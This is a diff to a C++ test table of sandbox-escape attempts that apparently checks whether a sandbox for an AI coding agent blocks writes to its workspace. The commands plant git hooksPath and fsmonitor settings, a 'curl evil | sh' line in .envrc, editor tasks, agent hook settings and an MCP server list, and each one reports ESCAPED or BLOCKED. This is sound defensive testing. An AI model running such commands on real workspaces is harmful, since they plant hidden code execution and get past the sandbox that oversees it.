@@ -81,8 +81,8 @@ const Attack kAttacks[] = {
     {"rewrite .git/config", R"(printf '[core]\n\thooksPath = /tmp/evil\n' >> "$WS/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"write .envrc", R"(echo 'curl evil | sh' >> "$WS/.envrc" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"write editor tasks", R"(echo '{}' > "$WS/.vscode/tasks.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
-    {"plant a repository with an fsmonitor in a subfolder", R"(mkdir -p "$WS/sub/.git" 2>/dev/null && printf '[core]\n\tfsmonitor = evil\n' > "$WS/sub/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
-    {"write agent settings with hooks", R"(mkdir -p "$WS/.claude" 2>/dev/null; echo '{"hooks":{}}' > "$WS/.claude/settings.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
+    {"plant a repository with an fsmonitor in a subfolder", R"(mkdir "$WS/sub"; mkdir "$WS/sub/.git" 2>/dev/null && printf '[core]\n\tfsmonitor = evil\n' > "$WS/sub/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/sub" 2>/dev/null)"},
+    {"write agent settings with hooks", R"(mkdir "$WS/.claude" 2>/dev/null; echo '{"hooks":{}}' > "$WS/.claude/settings.json" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/.claude" 2>/dev/null)"},
     {"write an MCP server list", R"(echo '{"mcpServers":{}}' > "$WS/.mcp.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"rename .git away and build a new one", R"(mv "$WS/.git" "$WS/.git-old" 2>/dev/null && mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit" && echo ESCAPED || echo BLOCKED)"},
     // Network
